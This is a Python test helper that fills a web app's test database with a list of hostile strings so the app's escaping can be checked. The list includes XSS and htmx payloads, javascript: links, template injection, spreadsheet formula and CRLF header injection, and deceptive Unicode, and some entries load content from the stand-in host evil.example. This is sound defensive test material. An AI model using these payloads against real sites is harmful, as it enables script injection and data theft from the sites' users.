"""Texts that try to become more than text, and the world filled with them."""

from collections.abc import Iterator
from itertools import count
from typing import Any

from sqlalchemy import Column, Enum, Row, String, Table, select, update

from peerapp.db import db
from peerapp.models import GoalEvent, Import, Notice, Round, Skill
from peerapp.rules.states import ImportState
from tests.house.pages import everything_is_newer
from tests.rounds import lift_guards, restore_guards

HOSTILE = (
    # tags and events
    "<script>evil()</script>",
    "</textarea></title></style><script>evil()</script>",
    '"><script src=//evil.example></script>',
    "'\"><svg/onload=evil()>",
    "<img src=x onerror=evil()>",
    "<b onmouseover=evil()>evil</b>",
    '" autofocus onfocus=evil() x="',
    "' onpointerenter='evil()",
    "` onclick=`evil()",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<object data=javascript:evil()></object>",
    "<form action=//evil.example><button>evil</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<p style=background:url(//evil.example)>evil</p>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=evil() src>'>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
    "<template><script>evil()</script></template>",
    "<!--><script>evil()</script>-->",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "&lt;script&gt;evil()&lt;/script&gt; &#60;img onerror=evil()&#62;",
    # what htmx would obey
    "<a hx-get=/evil hx-trigger=load>evil</a>",
    "<div data-hx-post=/evil data-hx-trigger=load>evil</div>",
    "<p hx-on:click=evil()>evil</p>",
    "<b id=evil hx-swap-oob=true>evil</b>",
    "<div id=toasts data-draft=evil>evil</div>",
    # Markdown
    "[evil](javascript:evil())",
    "[evil](JaVaScRiPt&colon;evil())",
    "[evil](data:text/html;base64,PHNjcmlwdD4=)",
    "[evil](vbscript:evil)",
    "[evil](//evil.example 'title\" onclick=\"evil()')",
    "![evil](//evil.example/x.png)",
    "<javascript:evil()>",
    '<https://evil.example/?"onclick=evil()>',
    "[evil]: javascript:evil()\n\n[evil]",
    '```"><script>evil()</script>\nevil\n```',
    "> # evil\n\n1. <script>evil()</script>\n\n---\n\n`<img onerror=evil()>`",
    # templates, formats, spreadsheets, headers
    "{{ 7*7 }} {{ config }} {% import os %} ${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d %% {0} {name} {evil!r}",
    '=HYPERLINK("//evil.example","evil")',
    "+evil|' /C calc'!A0",
    "-2+3+evil",
    "@SUM(1+1)*evil",
    "\t=evil()",
    "evil\r\nBcc: evil@evil.example\r\n\r\nevil",
    "evil\nSet-Cookie: peerapp=evil",
    # signs that hide or turn
    "\u202eevil\u202c \u2066evil\u2069 \u200bevil\ufeff",
    "evil\u2028evil\u2029evil\x85evil",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301vil \U0001f469\u200d\U0001f4bb ﷽",
)  # fmt: skip
# Columns that hold no words: keys, addresses, names of things in the code, and what only a machine reads.
NO_WORDS = {
    "person.key", "person.email", "person.proposed_email", "person.language", "person.time_zone",
    "person.password_hash", "pair.couple", "request.couple", "sign_in.token_hash", "one_time_link.token_hash",
    "agenda_point.kind", "session_frame.icebreaker", "session_frame.question", "style_choice.style", "style_choice.choice", "notice.path", "submission.key",
    "submission.location", "lease.job", "lease.holder", "sign_in_try.key", "letter.address", "search_word.word",
    "goal.position", "step.position", "note_block.position", "agenda_point.position", "pair.charter",
    "round.language", "round.manifest", "round.fingerprint", "round_release.text",
}  # fmt: skip
AT_ONCE = 8  # so many of them in a text that has no limit


def fill(turn: int) -> None:
    """Put them into every text of the database; another turn puts others there."""
    numbers = count(turn * 7)
    lift_guards(db.session.connection())  # open rounds are filled, too
    for table in db.metadata.sorted_tables:
        columns = list(_columns_of_words(table))
        for row in db.session.execute(select(table)).all() if columns else ():
            same = [column == row._mapping[column.name] for column in table.primary_key.columns]  # noqa: SLF001 - its documented name
            db.session.execute(update(table).where(*same).values(_values(columns, row, numbers)))
    _fill_json(numbers)
    _fill_people_files(numbers)
    db.session.flush()
    restore_guards(db.session.connection())
    everything_is_newer()
    db.session.expire_all()


def hostile(number: int, most: int | None = None) -> str:
    """One of them, or a stretch of them where there is room."""
    if most is not None and most <= 600:
        return HOSTILE[number % len(HOSTILE)][:most]
    chosen = [HOSTILE[(number + each) % len(HOSTILE)] for each in range(AT_ONCE)]
    return "\n\n".join(chosen)[:most]


def _columns_of_words(table: Table) -> Iterator[Column[Any]]:
    for column in table.columns:
        is_words = isinstance(column.type, String) and not isinstance(column.type, Enum)
        if is_words and f"{table.name}.{column.name}" not in NO_WORDS:
            yield column


def _values(columns: list[Column[Any]], row: Row[Any], numbers: Iterator[int]) -> dict[str, str]:
    """A skill without words stays one: it is an area that was ticked. A unit's name is like no other."""
    values = {column.name: hostile(next(numbers), column.type.length) for column in columns}  # type: ignore[attr-defined]  # a String
    if columns[0].table.name == Skill.__tablename__ and not row._mapping["words"]:  # noqa: SLF001 - its documented name
        return {"words": ""}
    if columns[0].table.name == "unit":
        return {"name": f"{values['name']} {next(numbers)}"[:120]}
    return values


def _fill_json(numbers: Iterator[int]) -> None:
    for notice in db.session.scalars(select(Notice)):
        notice.values = dict.fromkeys(("name", "day", "time", "role", "title"), hostile(next(numbers), 120))
    for round_ in db.session.scalars(select(Round)):
        round_.questions = [each | {"text": hostile(next(numbers), 200)} for each in round_.questions]
    for event in db.session.scalars(select(GoalEvent)):
        for side in ("before", "after"):
            said = getattr(event, side)
            texts = {
                name: hostile(next(numbers), 600) for name in ("title", "why", "success_sign", "next_step", "need")
            }
            setattr(event, side, said | {name: text for name, text in texts.items() if name in said})


def _fill_people_files(numbers: Iterator[int]) -> None:
    for found in db.session.scalars(select(Import).where(Import.state == ImportState.PREVIEWED)):
        rows = [["name", "e-mail", "unit", "site", hostile(next(numbers), 80)]]
        rows += [
            [hostile(next(numbers), 100), f"new{each}@example.com", hostile(next(numbers), 100), "", "x"]
            for each in range(9)
        ]
        rows += [[hostile(next(numbers), 100), hostile(next(numbers), 100), "", "", ""] for _ in range(9)]
        found.content = "\r\n".join(
            ",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows
        ).encode()
